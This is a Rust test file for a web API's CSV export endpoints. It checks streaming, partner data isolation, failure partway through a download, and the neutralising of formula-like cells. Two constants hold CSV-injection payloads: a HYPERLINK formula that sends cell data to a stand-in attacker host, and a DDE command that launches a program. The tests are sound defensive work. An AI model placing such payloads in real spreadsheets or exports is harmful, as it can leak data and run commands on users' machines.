//! CSV downloads over HTTP on both databases: streamed, with formula-like cells neutralised.

mod common;

use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use common::{Fixture, deal_input};
use domain::roles::Role;
use store::testing::BACKENDS;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
const CALC: &str = "+cmd|' /C calc'!A0";

#[tokio::test]
async fn exports_stream_and_no_cell_runs_as_a_formula() {
    for backend in BACKENDS {
        let f = Fixture::new(backend).await;
        let admin = f.actor(Role::Admin).clone();
        let input = domain::deals::registration::DealInput {
            industry: CALC.into(),
            ..deal_input(HYPERLINK, "")
        };
        f.services
            .register_deal(&admin, f.partner_b, &input, true)
            .await
            .unwrap();

        let get = |role: Role| {
            Request::get("/api/v1/deals/export")
                .header("authorization", format!("Bearer {}", f.token(role)))
                .body(Body::empty())
                .unwrap()
        };
        let (status, headers, body) = f.send(get(Role::PartnerManager)).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers[header::CONTENT_TYPE], "text/csv; charset=utf-8");
        assert!(
            headers.get(header::CONTENT_LENGTH).is_none(),
            "sent as it is read, not built first"
        );
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula:\n{body}"
            );
        }
        assert!(cells.contains(&format!("'{HYPERLINK}")), "{body}");
        assert!(cells.contains(&format!("'{CALC}")), "{body}");

        // Partner A's people still get only A's registrations (B's is not among them).
        let (status, _, body) = f.send(get(Role::PartnerUser)).await;
        assert_eq!(status, StatusCode::OK);
        assert!(!body.contains("HYPERLINK"), "{body}");

        // The handlers moved; the API description still lists them as before.
        let (_, doc) = f.api(None, Method::GET, "/api/v1/openapi.json", None).await;
        let doc: serde_json::Value = serde_json::from_str(&doc).unwrap();
        for (path, operation) in [
            ("/api/v1/deals/export", "export_deals"),
            ("/api/v1/leads/export", "export_leads"),
            (
                "/api/v1/direct-opportunities/export",
                "export_opportunities",
            ),
            ("/api/v1/customer-accounts/export", "export_accounts"),
        ] {
            assert_eq!(
                doc["paths"][path]["get"]["operationId"], operation,
                "{path}"
            );
        }
    }
}

#[tokio::test]
async fn an_export_that_fails_after_its_first_bytes_ends_in_an_error_not_a_short_file() {
    use http_body_util::BodyExt;
    use tower::ServiceExt;
    for backend in BACKENDS {
        let f = Fixture::new(backend).await;
        // More registrations than one page of the export holds.
        f.import_alpha_registrations(services::exports::PAGE_ROWS + 1)
            .await;

        let request = Request::get("/api/v1/deals/export")
            .header(
                "authorization",
                format!("Bearer {}", f.token(Role::PartnerManager)),
            )
            .body(Body::empty())
            .unwrap();
        let response = f.router.clone().oneshot(request).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let mut body = response.into_body();
        let first = body.frame().await.unwrap().unwrap().into_data().unwrap();
        let first = String::from_utf8_lossy(&first);
        assert!(
            first.contains("Customer 0,"),
            "the header and the first page: {first:.200}"
        );

        // The table goes away under the download: the rest must fail, not end cleanly.
        let mut tx = f.services.db.write().await.unwrap();
        tx.execute(store::Sql::new(
            "ALTER TABLE deal_registrations RENAME TO deal_registrations_gone",
        ))
        .await
        .unwrap();
        tx.commit().await.unwrap();
        assert!(
            body.collect().await.is_err(),
            "a cut-short download reads as an error"
        );
    }
}
